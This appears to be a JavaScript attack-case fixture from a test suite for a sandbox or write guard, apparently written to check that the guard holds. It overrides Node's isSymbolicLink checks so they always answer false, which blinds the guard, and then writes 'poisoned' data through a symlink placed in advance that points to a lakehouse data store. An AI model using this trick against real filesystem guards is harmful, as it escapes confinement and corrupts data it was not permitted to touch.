/* @attack {"title": "Dirent.prototype.isSymbolicLink and Stats.prototype.isSymbolicLink made to answer false before the guard lists the run dir, then a write to a pre-placed symlink to the lakehouse", "setup": ["abs-symlink-to-lakehouse"]} */
import fs from 'node:fs';

fs.Dirent.prototype.isSymbolicLink = () => false;
fs.Stats.prototype.isSymbolicLink = () => false;
const run = process.env.SLEEVE_RUN_DIR;
for (let i = 0; i < 400 && !fs.existsSync(`${run}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
try {
  fs.writeFileSync(`${run}/lake.csv`, 'poisoned through a lying Dirent\n');
  console.log('written');
} catch (error) {
  console.log(error.code);
}
